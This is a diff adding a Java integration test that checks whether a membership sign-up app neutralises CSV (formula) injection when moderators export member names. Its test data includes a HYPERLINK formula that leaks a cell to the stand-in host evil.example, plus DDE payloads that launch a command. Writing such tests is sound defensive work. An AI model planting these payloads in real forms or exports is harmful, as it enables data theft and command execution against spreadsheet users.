@@ -169,6 +169,35 @@ class MembershipBrowserIT extends DeployedApplication {
         assertThat(http.get("api/assemblies/" + council, "application/json").body()).doesNotContain("@example.org");
     }
 
+    /** CSV injection (OWASP): a name typed as a formula reaches the moderators' spreadsheet as text. */
+    @Test
+    void aSignUpNamedLikeAFormulaReachesTheModeratorsExportAsText() throws Exception {
+        List<String> names = List.of("=HYPERLINK(\"http://evil.example/?\"&B2;\"Cliquez\")", "+33 6 12 34 56 78",
+                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "Camille ;=1+1");
+        for (int i = 0; i < names.size(); i++) {
+            Browser browser = browser();
+            browser.open("membership/sign-up?council=" + council);
+            fill(browser, names.get(i), "formule-" + i + "-" + suffix + "@example.org", LocalDate.now().minusYears(30));
+            browser.follow(browser.find(By.id("submit")));
+            assertThat(browser.find(By.id("sent")).getText()).isEqualTo("Vérifiez votre boîte de réception");
+        }
+
+        Browser moderator = StaffSignIn.signIn(url, http, "MODERATEUR", council);
+        browsers.add(moderator);
+        moderator.open("admin/members?space=" + council);
+        String csv = (String) ((JavascriptExecutor) moderator.driver()).executeAsyncScript(
+                "const done = arguments[arguments.length - 1]; fetch(document.getElementById('csv').href).then(r => r.text()).then(done);");
+        List<String> exported;
+        try (var parser = org.apache.commons.csv.CSVFormat.Builder.create(org.apache.commons.csv.CSVFormat.EXCEL).setDelimiter(';')
+                .setHeader().setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv.substring(1)))) {
+            exported = parser.getRecords().stream().map(r -> r.get("nom")).toList();
+        }
+
+        assertThat(exported).containsExactlyInAnyOrder("'" + names.get(0), "'" + names.get(1), "'" + names.get(2), "'" + names.get(3),
+                names.get(4));
+        assertThat(csv).as("the separator stays inside its quoted cell").contains("\"Camille ;=1+1\"");
+    }
+
     private void signUpAgain(String address) {
         Browser browser = browser();
         browser.open("membership/sign-up?council=" + council);
